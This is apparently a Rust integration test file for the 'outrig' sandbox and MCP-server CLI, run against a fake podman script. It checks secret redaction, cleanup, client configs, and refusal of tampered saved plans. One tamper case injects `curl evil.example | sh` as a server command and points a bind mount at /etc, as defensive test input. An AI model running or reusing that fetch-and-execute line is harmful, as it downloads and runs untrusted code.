//! `outrig plan` as a whole binary, against a fake `podman` that answers from files and
//! logs every call.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::context::{TestContext, repo_root};

/// A fake podman: `images` and `ps` print `images.json` / `containers.json` from its
/// directory, `fail` (if present) makes every call fail, and each call is logged.
fn fake_podman(dir: &Path) -> PathBuf {
    let script = dir.join("podman");
    std::fs::write(
        &script,
        format!(
            r#"#!/bin/sh
d='{dir}'
printf '%s\n' "$*" >> "$d/calls.log"
if [ -f "$d/fail" ]; then echo "Error: cannot connect to podman: no such socket" >&2; exit 125; fi
case "$1" in
  images) cat "$d/images.json" 2>/dev/null || echo '[]' ;;
  ps) cat "$d/containers.json" 2>/dev/null || echo '[]' ;;
  network) echo '[]' ;;
  info) cat "$d/info.json" 2>/dev/null || echo '{{"host":{{"serviceIsRemote":false,"cgroupVersion":"v2","cgroupControllers":["cpu","memory","pids"],"security":{{"rootless":false}}}}}}' ;;
  rm) echo "$5" ;;
  --version) echo 'podman version 4.3.1' ;;
  *) echo "fake podman: unexpected $*" >&2; exit 2 ;;
esac
"#,
            dir = dir.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    script
}

struct Project {
    context: TestContext,
    fake: PathBuf,
}

const CONFIG: &str = r#"project = "demo"
default-agent = "coder"

[images.tools]
containerfile = "sandbox/Containerfile"
build-args = { TOKEN = "${API_TOKEN}", PLAIN = "x" }

[images.tools.mcp.time]
command = ["python3", "-m", "mcp_server_time"]
env = { API_TOKEN = "${API_TOKEN}" }

[providers.local]
base-url = "http://127.0.0.1:8080/v1"
api-key = "${API_TOKEN}"

[models.small]
provider = "local"
identifier = "m"

[agents.coder]
model = "small"
image = "tools"
tools = ["time__*"]
"#;

const SECRET: &str = "s3cr3t-value";

impl Project {
    fn new() -> Project {
        let context = TestContext::new();
        let fake_dir = context.path().join(".fake");
        std::fs::create_dir_all(&fake_dir).unwrap();
        let fake = fake_podman(&fake_dir);
        let sessions = context.path().join(".sessions");
        let cache = context.path().join(".cache");
        let context = context
            .env("XDG_CACHE_HOME", cache.to_str().unwrap())
            .env("OUTRIG_PODMAN", fake.to_str().unwrap())
            .env("OUTRIG_SESSION_ROOT", sessions.to_str().unwrap())
            .env("API_TOKEN", SECRET);
        context.write("outrig.toml", CONFIG);
        context.write(
            "sandbox/Containerfile",
            "FROM localhost/outrig-base:bookworm\nCOPY app.py /app.py\n",
        );
        context.write("sandbox/app.py", "print('hello')\n");
        Project {
            context,
            fake: fake_dir,
        }
    }

    fn plan_json(&self) -> Value {
        let run = self.context.run(&["plan", "--json"]);
        assert_eq!(run.status, 0, "{}", run.all());
        serde_json::from_str(&run.stdout).unwrap()
    }

    /// Make podman report the image `plan` builds as built.
    fn mark_built(&self, plan: &Value) {
        let image = &plan["desired"]["images"]["tools"];
        let build = &image["build"];
        std::fs::write(
            self.fake.join("images.json"),
            serde_json::json!([{
                "Id": "abc123",
                "Names": [image["reference"]],
                "Labels": {
                    "org.outrig.project": "demo",
                    "org.outrig.image": "tools",
                    "org.outrig.containerfile-hash": build["containerfile_hash"],
                    "org.outrig.context-hash": build["context_hash"],
                    "org.outrig.args-hash": build["args_hash"],
                }
            }])
            .to_string(),
        )
        .unwrap();
    }

    /// A finished session `id` that applied `desired`.
    fn record_session(&self, id: &str, desired: &Value) {
        let session = self.context.path().join(".sessions").join(id);
        std::fs::create_dir_all(&session).unwrap();
        std::fs::write(
            session.join("session.json"),
            serde_json::json!({
                "format_version": 2,
                "id": id,
                "project": "demo",
                "project_id": desired["project_id"],
                "status": "finished",
                "desired": desired,
            })
            .to_string(),
        )
        .unwrap();
    }

    fn calls(&self) -> Vec<String> {
        std::fs::read_to_string(self.fake.join("calls.log"))
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }
}

#[test]
fn fresh_project_plans_a_build_and_exits_2_with_detailed_exitcode() {
    let project = Project::new();
    let run = project.context.run(&["plan"]);
    assert_eq!(run.status, 0, "{}", run.all());
    assert!(run.stdout.contains("+ image.tools"), "{}", run.stdout);
    assert!(
        run.stdout.contains("image missing: build it"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("Plan: 1 to build, 1 to start, 1 server, 0 to remove"),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("Security"), "{}", run.stdout);
    let run = project.context.run(&["plan", "--detailed-exitcode"]);
    assert_eq!(run.status, 2, "{}", run.all());
    // The engine and the observed state are read in exactly three podman calls per plan.
    let calls = project.calls();
    assert_eq!(calls.len(), 6, "{calls:?}");
    assert!(calls[0].starts_with("info"), "{calls:?}");
}

#[test]
fn current_images_and_a_matching_session_mean_no_changes() {
    let project = Project::new();
    let plan = project.plan_json();
    project.mark_built(&plan);
    // Images are current, but nothing was applied yet: still changes (everything is new).
    let run = project.context.run(&["plan", "--detailed-exitcode"]);
    assert_eq!(run.status, 2, "{}", run.all());
    assert!(
        run.stdout.contains("unchanged: image.tools"),
        "{}",
        run.stdout
    );
    let run = project.context.run(&["plan", "--verbose"]);
    assert!(run.stdout.contains("up to date"), "{}", run.stdout);
    // A session that applied exactly this desired state.
    project.record_session("20261125T090000-ab12", &plan["desired"]);
    let run = project.context.run(&["plan", "--detailed-exitcode"]);
    assert_eq!(run.status, 0, "{}", run.all());
    assert!(run.stdout.contains("No changes."), "{}", run.stdout);
    // Nothing changed; what stays said is what the engine does not isolate (this test's
    // workspace is root's and writable, so the sandbox runs as host root).
    let again = project.plan_json();
    let deltas = again["security_deltas"].as_array().unwrap();
    assert!(
        deltas.iter().all(|d| d["kind"] == "isolation"),
        "nothing changed: {}",
        run.stdout
    );

    // One byte in the context: exactly one rebuild, naming the file.
    project.context.write("sandbox/app.py", "print('hellO')\n");
    let plan = project.plan_json();
    let replaced: Vec<&Value> = plan["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| {
            s["action"] == "replace" || s["action"] == "create" && s["address"] == "image.tools"
        })
        .collect();
    assert_eq!(replaced.len(), 1, "{plan:#}");
    assert_eq!(replaced[0]["action"], "replace");
    assert_eq!(
        replaced[0]["reasons"][0]["changes"][0],
        serde_json::json!({"path": "app.py", "change": {"kind": "modified"}}),
        "{}",
        replaced[0]
    );
    let run = project.context.run(&["plan"]);
    assert!(
        run.stdout.contains("build context changed: `app.py`"),
        "{}",
        run.stdout
    );
}

#[test]
fn json_and_saved_plans_match_the_committed_schema() {
    let project = Project::new();
    let run = project
        .context
        .run(&["plan", "--json", "--out", "saved.json"]);
    assert_eq!(run.status, 0, "{}", run.all());
    let saved = std::fs::read_to_string(project.context.path().join("saved.json")).unwrap();
    assert_eq!(saved, run.stdout);
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(repo_root().join("schema/plan.schema.json")).unwrap(),
    )
    .unwrap();
    let validator = jsonschema::draft7::new(&schema).unwrap();
    let plan: Value = serde_json::from_str(&saved).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&plan)
        .map(|e| e.to_string())
        .collect();
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(plan["format_version"], 6);
    assert!(plan["config_digest"].as_str().unwrap().len() >= 16);
}

#[test]
fn secrets_appear_in_no_plan_output() {
    let project = Project::new();
    let human = project.context.run(&["plan"]);
    let json = project
        .context
        .run(&["plan", "--json", "--out", "saved.json"]);
    let saved = std::fs::read_to_string(project.context.path().join("saved.json")).unwrap();
    for text in [human.all(), json.all(), saved] {
        assert!(!text.contains(SECRET), "secret leaked:\n{text}");
    }
    // The build passes the secret argument by name only.
    assert!(
        human.stdout.contains("--build-arg TOKEN "),
        "{}",
        human.stdout
    );
    assert!(
        human.stdout.contains("--build-arg PLAIN=x"),
        "{}",
        human.stdout
    );
    assert!(
        human
            .stdout
            .contains("env: API_TOKEN (secret ${API_TOKEN})"),
        "{}",
        human.stdout
    );
    let verbose = project.context.run(&["plan", "--verbose"]);
    assert!(
        verbose.stdout.contains("--env API_TOKEN "),
        "{}",
        verbose.stdout
    );
    assert!(!verbose.all().contains(SECRET));
    // An unset variable is an error that names it and nothing else.
    let context = TestContext::new()
        .env(
            "OUTRIG_PODMAN",
            project.fake.join("podman").to_str().unwrap(),
        )
        .env("OTHER", SECRET);
    context.write("outrig.toml", CONFIG);
    context.write("sandbox/Containerfile", "FROM x\n");
    let run = context.run(&["plan"]);
    assert_eq!(run.status, 1);
    assert!(
        run.stderr.contains("`API_TOKEN` is not set"),
        "{}",
        run.stderr
    );
    assert!(!run.all().contains(SECRET));
}

#[test]
fn a_changed_secret_changes_the_fingerprint_not_the_output() {
    let project = Project::new();
    let first = project.plan_json();
    let context = &project.context;
    let second: Value = {
        let run = crate::context::outrig_command(
            context.path(),
            &[
                (
                    "OUTRIG_PODMAN".into(),
                    project.fake.join("podman").display().to_string(),
                ),
                (
                    "OUTRIG_SESSION_ROOT".into(),
                    context.path().join(".sessions").display().to_string(),
                ),
                ("API_TOKEN".into(), "another-value".into()),
            ],
        )
        .args(["plan", "--json"])
        .output()
        .unwrap();
        serde_json::from_slice(&run.stdout).unwrap()
    };
    let tag = |plan: &Value| {
        plan["desired"]["images"]["tools"]["reference"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert_ne!(
        tag(&first),
        tag(&second),
        "a build argument's secret value is part of the image identity"
    );
    assert_ne!(first["config_digest"], second["config_digest"]);
}

#[test]
fn orphaned_containers_are_planned_for_removal() {
    let project = Project::new();
    let plan = project.plan_json();
    let project_id = plan["desired"]["project_id"].as_str().unwrap().to_string();
    std::fs::write(
        project.fake.join("containers.json"),
        serde_json::json!([{
            "Id": "c1",
            "Names": ["outrig-demo-tools-20261101T000000-dead"],
            "Image": "localhost/outrig-tools:x",
            "State": "exited",
            "Labels": {"org.outrig.project-id": project_id, "org.outrig.session": "20261101T000000-dead"}
        }])
        .to_string(),
    )
    .unwrap();
    let run = project.context.run(&["plan"]);
    assert!(
        run.stdout
            .contains("- container.outrig-demo-tools-20261101T000000-dead"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("orphaned container from session 20261101T000000-dead"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("podman rm --force --time 0 outrig-demo-tools-20261101T000000-dead"),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("1 to remove"), "{}", run.stdout);
    assert!(
        project
            .calls()
            .iter()
            .any(|c| c.contains(&format!("label=org.outrig.project-id={project_id}")))
    );
}

#[test]
fn podman_missing_or_failing_is_a_clear_error() {
    let project = Project::new();
    let context = TestContext::new()
        .env("OUTRIG_PODMAN", "/nonexistent/podman")
        .env("API_TOKEN", SECRET);
    context.write("outrig.toml", CONFIG);
    context.write("sandbox/Containerfile", "FROM x\n");
    // Every command that needs podman says the same when it is missing.
    let sessions = context.path().join("sessions");
    let sessions = sessions.to_str().unwrap();
    for command in [
        &["plan"][..],
        &["apply", "--auto-approve"],
        &["mcp"],
        &["mcp", "--attach", "outrig-some-container"],
        &["destroy", "--session-root", sessions],
        &["clean", "--session-root", sessions],
    ] {
        let run = context.run(command);
        assert_eq!(run.status, 1, "{command:?}: {}", run.all());
        assert!(
            run.stderr
                .contains("podman (`/nonexistent/podman`) was not found"),
            "{command:?}: {}",
            run.stderr
        );
        assert!(
            run.stderr
                .contains(&format!("hint: {}", outrig::podman::runtime::INSTALL_HINT)),
            "{command:?}: {}",
            run.stderr
        );
    }

    std::fs::write(project.fake.join("fail"), "").unwrap();
    let run = project.context.run(&["plan", "--detailed-exitcode"]);
    assert_eq!(run.status, 1, "{}", run.all());
    assert!(
        run.stderr.contains("podman could not report"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("cannot connect to podman"),
        "stderr tail shown: {}",
        run.stderr
    );
    assert!(
        run.stderr.contains("exited with status 125"),
        "{}",
        run.stderr
    );
}

#[test]
fn an_unknown_agent_is_an_error_with_a_suggestion() {
    let project = Project::new();
    let run = project.context.run(&["plan", "--agent", "codr"]);
    assert_eq!(run.status, 1);
    assert!(
        run.stderr.contains("no agent named `codr`"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("did you mean `coder`?"),
        "{}",
        run.stderr
    );
}

/// A session record of the project `demo` whose config is in `root`'s parent.
fn write_session(root: &Path, id: &str, status: &str, ended: &str) {
    let project_id = outrig::plan::desired::project_id("demo", root.parent().unwrap());
    let dir = root.join(id);
    std::fs::create_dir_all(dir.join("logs")).unwrap();
    std::fs::write(
        dir.join("session.json"),
        serde_json::json!({
            "format_version": 1, "id": id, "project": "demo", "project_id": project_id,
            "status": status, "started_at": "2026-01-01T00:00:00Z", "ended_at": ended,
            "exit_code": 0,
        })
        .to_string(),
    )
    .unwrap();
    std::fs::write(
        dir.join("logs/tools.time.stderr"),
        "time server says hello\n",
    )
    .unwrap();
}

#[test]
fn ls_logs_discard_and_clean_work_on_records() {
    let project = Project::new();
    let root = project.context.path().join(".sessions");
    write_session(
        &root,
        "20260101T000000-aaaa",
        "finished",
        "2026-01-01T00:00:05Z",
    );
    write_session(
        &root,
        "20260102T000000-bbbb",
        "kept",
        "2026-01-02T00:00:05Z",
    );
    std::fs::create_dir_all(root.join("20260103T000000-cccc")).unwrap();
    std::fs::write(root.join("20260103T000000-cccc/session.json"), "{ not json").unwrap();

    let run = project.context.run(&["ls"]);
    assert_eq!(run.status, 0, "{}", run.all());
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert!(
        lines[1].starts_with("20260103T000000-cccc") && lines[1].contains("unreadable"),
        "{}",
        run.stdout
    );
    assert!(lines[2].contains("kept"), "{}", run.stdout);
    assert!(
        lines[3].contains("finished") && lines[3].contains("5.0s"),
        "{}",
        run.stdout
    );

    let run = project
        .context
        .run(&["logs", "20260101T000000-aaaa", "time"]);
    assert_eq!(run.stdout, "time server says hello\n", "{}", run.all());
    let run = project
        .context
        .run(&["logs", "20260101T000000-aaaa", "nope"]);
    assert_eq!(run.status, 1);
    assert!(
        run.stderr.contains("servers with logs: tools.time"),
        "{}",
        run.stderr
    );
    let run = project.context.run(&["logs", "no-such-session"]);
    assert_eq!(run.status, 1);
    assert!(
        run.stderr.contains("no session `no-such-session`"),
        "{}",
        run.stderr
    );

    // A stray container of a session that is gone is removed; a kept one is not.
    std::fs::write(
        project.fake.join("containers.json"),
        serde_json::json!([
            {"Id": "c1", "Names": ["outrig-demo-tools-gone"], "State": "exited",
             "Labels": {"org.outrig.session": "20251201T000000-gone"}},
            {"Id": "c2", "Names": ["outrig-demo-tools-kept"], "State": "running",
             "Labels": {"org.outrig.session": "20260102T000000-bbbb"}}
        ])
        .to_string(),
    )
    .unwrap();
    // The removal plan, as JSON, without removing anything.
    let run = project
        .context
        .run(&["clean", "--older-than", "1d", "--dry-run", "--json"]);
    assert_eq!(run.status, 0, "{}", run.all());
    let plan: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(plan["purpose"]["command"], "clean", "{plan}");
    let operations: Vec<String> = plan["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            format!(
                "{} {}",
                s["operation"]["kind"].as_str().unwrap(),
                s["reason"]["kind"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        operations,
        ["remove_container session_gone", "remove_record older_than",],
        "{plan}"
    );
    assert_eq!(
        plan["steps"][0]["operation"]["command"]["args"][4],
        "outrig-demo-tools-gone"
    );
    assert!(
        !project.calls().iter().any(|c| c.starts_with("rm")),
        "a dry run removes nothing: {:?}",
        project.calls()
    );
    assert!(root.join("20260101T000000-aaaa").exists());

    let run = project.context.run(&["clean", "--older-than", "1d"]);
    assert_eq!(run.status, 0, "{}", run.all());
    let calls = project.calls();
    assert!(
        calls
            .iter()
            .any(|c| c == "rm --force --time 0 outrig-demo-tools-gone"),
        "{calls:?}"
    );
    assert!(
        !calls.iter().any(|c| c.contains("outrig-demo-tools-kept")),
        "{calls:?}"
    );
    assert!(
        !root.join("20260101T000000-aaaa").exists(),
        "old finished record removed"
    );
    assert!(
        root.join("20260102T000000-bbbb").exists(),
        "kept record stays"
    );

    let run = project.context.run(&["discard", "20260102T000000-bbbb"]);
    assert_eq!(run.status, 0, "{}", run.all());
    assert!(!root.join("20260102T000000-bbbb").exists());
    let run = project.context.run(&["clean", "--older-than", "soon"]);
    assert_eq!(run.status, 1);
    assert!(run.stderr.contains("not an age"), "{}", run.stderr);
}

/// `outrig mcp` never makes a client wait on a build: with the image not built it fails at
/// once, naming `outrig apply`, starts nothing and asks podman only what plan asks.
#[test]
fn mcp_refuses_to_start_while_a_build_is_pending() {
    let project = Project::new();
    let run = project.context.run(&["mcp"]);
    assert_eq!(run.status, 1, "{}", run.all());
    assert!(
        run.stdout.is_empty(),
        "stdout is the protocol's: {}",
        run.stdout
    );
    assert!(
        run.stderr
            .contains("image `tools` must be built before its tools can be served"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("outrig apply"), "{}", run.stderr);
    assert!(run.stderr.contains("outrig mcp --build"), "{}", run.stderr);
    assert!(!run.all().contains(SECRET));
    let calls = project.calls();
    assert!(
        calls
            .iter()
            .all(|c| c.starts_with("images") || c.starts_with("ps") || c.starts_with("info")),
        "{calls:?}"
    );
}

/// `--print-config` prints a snippet each client reads, with absolute paths, and the
/// variables the servers need passed through by name (never their values).
#[test]
fn mcp_prints_the_config_snippet_for_each_client() {
    let project = Project::new();
    let root = std::fs::canonicalize(project.context.path()).unwrap();
    for client in ["claude-code", "cursor", "vscode", "codex"] {
        let run = project.context.run(&["mcp", "--print-config", client]);
        assert_eq!(run.status, 0, "{client}: {}", run.all());
        assert!(!run.all().contains(SECRET));
        let (command, args, env): (String, Vec<String>, String) = if client == "codex" {
            let doc: toml_edit::DocumentMut = run.stdout.parse().unwrap();
            let server = &doc["mcp_servers"]["outrig-demo"];
            (
                server["command"].as_str().unwrap().to_string(),
                server["args"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|a| a.as_str().unwrap().to_string())
                    .collect(),
                server["env_vars"].to_string(),
            )
        } else {
            let json: Value = serde_json::from_str(&run.stdout).unwrap();
            let key = if client == "vscode" {
                "servers"
            } else {
                "mcpServers"
            };
            let server = &json[key]["outrig-demo"];
            assert_eq!(server["type"], "stdio");
            (
                server["command"].as_str().unwrap().to_string(),
                serde_json::from_value(server["args"].clone()).unwrap(),
                server["env"].to_string(),
            )
        };
        assert!(Path::new(&command).is_absolute(), "{command}");
        assert!(command.ends_with("outrig"), "{command}");
        let config = std::fs::canonicalize(&args[1]).unwrap();
        assert_eq!(args[0], "--config");
        assert_eq!(config, root.join("outrig.toml"));
        assert_eq!(args[2], "mcp");
        assert!(env.contains("API_TOKEN"), "{client}: {env}");
        // The variables that choose the engine, where set, are passed on by name too.
        assert!(env.contains("OUTRIG_PODMAN"), "{client}: {env}");
        assert!(!env.contains("CONTAINER_HOST"), "{client}: {env}");
        // The session root goes with the command: the client's gateway records where
        // `outrig ls` here looks.
        let at = args.iter().position(|a| a == "--session-root").unwrap();
        assert!(Path::new(&args[at + 1]).is_absolute(), "{args:?}");
        if client == "claude-code" {
            assert!(
                run.stderr
                    .contains("claude mcp add --scope project -e 'API_TOKEN=${API_TOKEN}'"),
                "{}",
                run.stderr
            );
        }
    }

    // Over HTTP: the URL and the token's variable, never a token.
    for client in ["claude-code", "cursor", "vscode", "codex"] {
        let run = project.context.run(&[
            "mcp",
            "--print-config",
            client,
            "--listen",
            "127.0.0.1:8808",
            "--token-env",
            "MY_TOKEN",
        ]);
        assert_eq!(run.status, 0, "{client}: {}", run.all());
        assert!(
            run.stdout.contains("http://127.0.0.1:8808/mcp"),
            "{}",
            run.stdout
        );
        assert!(run.stdout.contains("MY_TOKEN"), "{}", run.stdout);
        assert!(
            run.stderr
                .contains("--listen 127.0.0.1:8808 --token-env MY_TOKEN"),
            "{}",
            run.stderr
        );
    }
    let any_port = project.context.run(&[
        "mcp",
        "--print-config",
        "claude-code",
        "--listen",
        "127.0.0.1:0",
    ]);
    assert_eq!(any_port.status, 1);
    assert!(
        any_port.stderr.contains("needs the port"),
        "{}",
        any_port.stderr
    );

    // With a lock, the entry name leaves room for the longest tool in Claude Code's
    // `mcp__<entry>__<tool>` (64 characters).
    let long_tool = "t".repeat(50);
    project.context.write(
        "outrig.lock",
        format!(
            "version = 1\n\n[servers.\"tools.time\"]\nprotocol-version = \"2025-11-25\"\n\n[servers.\"tools.time\".tools]\n{long_tool} = \"{{}}\"\n"
        ),
    );
    let run = project
        .context
        .run(&["mcp", "--print-config", "claude-code"]);
    assert_eq!(run.status, 0, "{}", run.all());
    let json: Value = serde_json::from_str(&run.stdout).unwrap();
    let entry = json["mcpServers"]
        .as_object()
        .unwrap()
        .keys()
        .next()
        .unwrap()
        .clone();
    let longest = format!("mcp__{entry}__time__{long_tool}");
    assert!(longest.len() <= 64, "{longest} ({})", longest.len());
    std::fs::remove_file(project.context.path().join("outrig.lock")).unwrap();

    let bad = project.context.run(&["mcp", "--print-config", "emacs"]);
    assert_eq!(bad.status, 1);
    assert!(bad.stderr.contains("claude-code"), "{}", bad.stderr);
}

/// A saved plan that was edited after it was made is refused before anything starts, and
/// the refusal names what differs. Three edits: the sandbox's network and capabilities, the
/// workspace's source, a server's command — in the desired state, in a step's operation,
/// or both.
#[test]
fn tampered_saved_plans_are_refused_before_anything_starts() {
    let project = Project::new();
    let run = project.context.run(&["plan", "--out", "plan.json"]);
    assert_eq!(run.status, 0, "{}", run.all());
    let path = project.context.path().join("plan.json");
    let original: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let step_index = |plan: &Value, address: &str| {
        plan["steps"]
            .as_array()
            .unwrap()
            .iter()
            .position(|s| s["address"] == address)
            .unwrap()
    };
    type Edit = fn(&mut Value, usize, usize);
    let cases: [(&str, Edit, &[&str]); 4] = [
        (
            "network and capabilities, desired state only",
            |plan, _, _| {
                let sandbox = &mut plan["desired"]["sandboxes"]["tools"];
                sandbox["network"] = serde_json::json!({"mode": "default"});
                sandbox["cap_drop"] = serde_json::json!([]);
            },
            &[
                "sandbox.tools: network.mode default → none",
                "sandbox.tools: cap_drop",
            ],
        ),
        (
            "network in the sandbox's operation only",
            |plan, sandbox, _| {
                let args = plan["steps"][sandbox]["operation"]["command"]["args"]
                    .as_array_mut()
                    .unwrap();
                let at = args.iter().position(|a| a == "--network=none").unwrap();
                args[at] = "--network=podman".into();
                args.retain(|a| a != "--cap-drop=ALL");
            },
            &["sandbox.tools: operation.command.args: `--network=podman` → `--network=none`"],
        ),
        (
            "the workspace's source",
            |plan, sandbox, _| {
                plan["desired"]["sandboxes"]["tools"]["workspace_host"] = "/etc".into();
                for arg in plan["steps"][sandbox]["operation"]["command"]["args"]
                    .as_array_mut()
                    .unwrap()
                {
                    if arg.as_str().is_some_and(|a| a.starts_with("type=bind")) {
                        *arg = "type=bind,source=/etc,target=/workspace".into();
                    }
                }
            },
            &["sandbox.tools: workspace_host /etc → "],
        ),
        (
            "a server's command",
            |plan, _, server| {
                plan["desired"]["servers"]["tools.time"]["command"] =
                    serde_json::json!(["sh", "-c", "curl evil.example | sh"]);
                let args = plan["steps"][server]["operation"]["command"]["args"]
                    .as_array_mut()
                    .unwrap();
                let len = args.len();
                args.truncate(len - 3);
                for word in ["sh", "-c", "curl evil.example | sh"] {
                    args.push(word.into());
                }
            },
            &[
                "mcp.tools.time: command: `sh` `-c` `curl evil.example | sh` → `python3` `-m` `mcp_server_time`",
            ],
        ),
    ];
    for (name, edit, expected) in cases {
        let mut plan = original.clone();
        let sandbox = step_index(&plan, "sandbox.tools");
        let server = step_index(&plan, "mcp.tools.time");
        edit(&mut plan, sandbox, server);
        std::fs::write(&path, serde_json::to_string_pretty(&plan).unwrap()).unwrap();
        let calls_before = project.calls().len();
        let run = project
            .context
            .run(&["apply", "plan.json", "--auto-approve"]);
        assert_eq!(run.status, 1, "{name}: {}", run.all());
        assert!(
            run.stderr.contains("is not what would run now"),
            "{name}: {}",
            run.stderr
        );
        for line in expected {
            assert!(
                run.stderr.contains(line),
                "{name}: `{line}` missing in\n{}",
                run.stderr
            );
        }
        assert!(
            !run.stderr.contains("outrig plan for project"),
            "{name}: nothing shown as if it ran"
        );
        // Only the plan's own queries reached podman: nothing was built, run or removed.
        let calls = project.calls();
        assert!(
            calls[calls_before..]
                .iter()
                .all(|c| c.starts_with("images") || c.starts_with("ps") || c.starts_with("info")),
            "{name}: {calls:?}"
        );
        assert!(
            outrig::session::ids(&project.context.path().join(".sessions")).is_empty(),
            "{name}: no session started"
        );
        assert!(!run.all().contains(SECRET));
    }
    // Another agent than the saved plan's is another plan.
    std::fs::write(&path, serde_json::to_string_pretty(&original).unwrap()).unwrap();
    project.context.write(
        "outrig.toml",
        format!("{CONFIG}\n[agents.other]\nmodel = \"small\"\nimage = \"tools\"\n"),
    );
    let run = project
        .context
        .run(&["apply", "plan.json", "--auto-approve", "--agent", "other"]);
    assert_eq!(run.status, 1, "{}", run.all());
    assert!(
        run.stderr.contains("agent: coder → other"),
        "{}",
        run.stderr
    );
    project.context.write("outrig.toml", CONFIG);
    // The untouched plan is what runs: it goes past the comparison (to the build the fake
    // podman cannot do).
    std::fs::write(&path, serde_json::to_string_pretty(&original).unwrap()).unwrap();
    let run = project
        .context
        .run(&["apply", "plan.json", "--auto-approve"]);
    assert!(
        !run.stderr.contains("is not what would run now"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("image.tools: building"),
        "{}",
        run.stderr
    );
}

/// `outrig show` renders a saved plan as `outrig plan` did, or its JSON.
#[test]
fn show_renders_a_saved_plan() {
    let project = Project::new();
    let planned = project
        .context
        .run(&["plan", "--out", "plan.json", "--verbose"]);
    assert_eq!(planned.status, 0, "{}", planned.all());
    let shown = project.context.run(&["show", "plan.json", "--verbose"]);
    assert_eq!(shown.status, 0, "{}", shown.all());
    assert_eq!(shown.stdout, planned.stdout);
    let json = project.context.run(&["show", "plan.json", "--json"]);
    assert_eq!(
        json.stdout,
        std::fs::read_to_string(project.context.path().join("plan.json")).unwrap()
    );
    let missing = project.context.run(&["show", "nope.json"]);
    assert_eq!(missing.status, 1);
    assert!(
        missing.stderr.contains("cannot read the plan `"),
        "{}",
        missing.stderr
    );
    project
        .context
        .write("old.json", r#"{"format_version": 1}"#);
    let old = project.context.run(&["show", "old.json"]);
    assert_eq!(old.status, 1);
    assert!(
        old.stderr.contains("format version 1, this outrig reads 6"),
        "{}",
        old.stderr
    );
}

/// `/dev/zero`, a FIFO with no writer and a 5 MB file, as `--config` or as a plan file:
/// each a clear error (exit 1), never a hang.
#[test]
fn streams_fifos_and_large_files_are_refused_at_once() {
    let project = Project::new();
    let dir = project.context.path();
    let fifo = dir.join("fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let big = dir.join("big.toml");
    std::fs::write(&big, vec![b'#'; 5 * 1024 * 1024]).unwrap();
    for path in ["/dev/zero", fifo.to_str().unwrap(), big.to_str().unwrap()] {
        for args in [
            vec!["--config", path, "validate"],
            vec!["--config", path, "plan"],
            vec!["apply", path, "--auto-approve"],
            vec!["show", path],
        ] {
            // A hang guard, not a speed target (that is measured by hand, in the docs).
            let run = project
                .context
                .run_with_deadline(&args, std::time::Duration::from_secs(20));
            assert_eq!(run.status, 1, "{args:?}: {}", run.all());
            assert!(
                run.stderr.contains("not a regular file")
                    || run.stderr.contains("larger than")
                    || run.stderr.contains("is not an outrig plan"),
                "{args:?}: {}",
                run.stderr
            );
        }
    }
}

/// Build A, apply B, go back to A: image A is current, yet the next session would run
/// another image than the last one did, so the plan has changes (exit 2) and names both.
#[test]
fn going_back_to_an_earlier_image_is_a_change() {
    let project = Project::new();
    let plan = project.plan_json();
    let reference = plan["desired"]["images"]["tools"]["reference"]
        .as_str()
        .unwrap()
        .to_string();
    project.mark_built(&plan);
    // The last applied session ran image B.
    let mut applied = plan["desired"].clone();
    applied["images"]["tools"]["reference"] = "localhost/outrig-tools:bbbbbbbbbbbbbbbb".into();
    project.record_session("20261125T090000-ab12", &applied);
    let run = project.context.run(&["plan", "--detailed-exitcode"]);
    assert_eq!(run.status, 2, "{}", run.all());
    assert!(
        run.stdout.contains(&format!(
            "~ sandbox.tools   image differs from the last applied session's: `localhost/outrig-tools:bbbbbbbbbbbbbbbb` → `{reference}`"
        )),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("(1 changed since the last apply)"),
        "{}",
        run.stdout
    );
}

/// Secret fingerprints are keyed with a per-user key kept 0600 in outrig's data directory:
/// the same value fingerprints differently for another user, so a plan cannot be used to
/// test guesses of a secret without the key.
#[test]
fn fingerprints_are_keyed_per_user() {
    use std::os::unix::fs::PermissionsExt;
    let project = Project::new();
    let fingerprint = |data: &Path| -> String {
        let run = crate::context::outrig_command(
            project.context.path(),
            &[
                (
                    "OUTRIG_PODMAN".into(),
                    project.fake.join("podman").display().to_string(),
                ),
                ("XDG_DATA_HOME".into(), data.display().to_string()),
                (
                    "OUTRIG_SESSION_ROOT".into(),
                    project
                        .context
                        .path()
                        .join(".sessions")
                        .display()
                        .to_string(),
                ),
                ("API_TOKEN".into(), SECRET.into()),
            ],
        )
        .args(["plan", "--json"])
        .output()
        .unwrap();
        assert!(
            run.status.success(),
            "{}",
            String::from_utf8_lossy(&run.stderr)
        );
        let plan: Value = serde_json::from_slice(&run.stdout).unwrap();
        plan["desired"]["servers"]["tools.time"]["env"]["API_TOKEN"]["fingerprint"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let alice = project.context.path().join(".alice");
    let bob = project.context.path().join(".bob");
    let first = fingerprint(&alice);
    assert_eq!(first, fingerprint(&alice), "stable for one user");
    assert_ne!(
        first,
